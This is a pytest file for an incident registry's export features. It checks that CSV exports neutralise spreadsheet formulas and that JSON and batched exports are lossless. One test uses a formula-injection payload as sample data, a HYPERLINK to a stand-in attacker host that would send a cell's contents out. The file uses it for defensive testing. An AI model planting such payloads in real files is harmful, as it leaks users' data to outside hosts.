"""Exports: JSON Lines keeps everything; the CSV is the import form, with formulas inert."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from amparo.domain.models import parse_incident
from amparo.registry import Registry
from amparo.services import exports
from amparo.services.incidents import IncidentFilter
from amparo.services.records_io import read_records
from tests import factories


def test_csv_export_reads_back_through_import(registry: Registry, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&B2,"open")'
    registry.incidents.add(factories.incident(title=hostile, narrative="-2+3 people; +1"))
    registry.incidents.add(factories.incident(title="Second", country="GT", region=None,
                                              place=None))  # fmt: skip
    text = "".join(exports.csv_lines(registry.incidents.export(IncidentFilter(), fmt="csv")))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["title", "narrative"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)

    path = tmp_path / "out.csv"
    path.write_text(text, encoding="utf-8")
    records = read_records(path)
    titles = sorted(r["title"] for r in records)
    assert titles == sorted([hostile, "Second"])
    for record in records:  # every exported row is a valid incident again
        parse_incident(record, registry.vocab, registry.clock.today())
    first = next(r for r in records if r["title"] == hostile)
    assert first["narrative"] == "-2+3 people; +1"
    assert first["acts"][0]["act_type"] == "A09"
    assert first["perpetrators"] == [{"perpetrator_type": "private_security"}]


def test_json_forms_are_lossless(registry: Registry) -> None:
    made = registry.incidents.add(factories.incident())
    lines = "".join(exports.json_lines(registry.incidents.export()))
    assert [json.loads(line) for line in lines.splitlines()] == [made.to_dict()]
    array = json.loads("".join(exports.json_array(registry.incidents.export())))
    assert array == [made.to_dict()]
    assert json.loads("".join(exports.json_array([]))) == []


def test_export_of_many_records_equals_reading_each(
    registry: Registry, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export loads records a batch at a time; each must equal what ``get`` returns,
    children in their order and each perpetrator's involvements on the right act."""
    from amparo.services import incidents as incidents_module

    first = registry.incidents.add(factories.incident(title="First"))
    rich = factories.incident(
        title="Second",
        perpetrators=[
            {"perpetrator_type": "private_security", "name": "Guard Unit 7"},
            {"perpetrator_type": "company_transnational", "description": "Owner"},
        ],
        acts=[
            {"act_type": "A09", "gender_specific": "yes", "modality": "in_person",
             "involvements": [{"perpetrator": 1, "degree": "ordered"},
                              {"perpetrator": 0, "degree": "carried_out"}]},
            {"act_type": "A18", "gender_specific": "no", "modality": "online",
             "involvements": [{"perpetrator": 1, "degree": "carried_out"}]},
        ],
        sources=[{"source_type": "victim_testimony", "reliability": "highly_reliable",
                  "identity": f"Interview {n}"} for n in range(3)],
        interventions=[{"status": "continuing", "priority": "urgent", "intervener": "Legal",
                        "response": "Complaint filed"}],
        links=[{"related_id": first.id, "relation": "follows"}],
    )  # fmt: skip
    added = [first, registry.incidents.add(rich)]
    added += [registry.incidents.add(factories.incident(title=f"More {n}")) for n in range(5)]
    expected = {i.id: registry.incidents.get(i.id).to_dict() for i in added if i.id}
    monkeypatch.setattr(incidents_module, "BATCH", 3)  # several batches, one of them short
    exported = [i.to_dict() for i in registry.incidents.export()]
    assert {d["id"]: d for d in exported} == expected
    second = next(d for d in exported if d["title"] == "Second")
    assert [inv["perpetrator"] for inv in second["acts"][0]["involvements"]] == [0, 1]
    assert [s["identity"] for s in second["sources"]] == [f"Interview {n}" for n in range(3)]
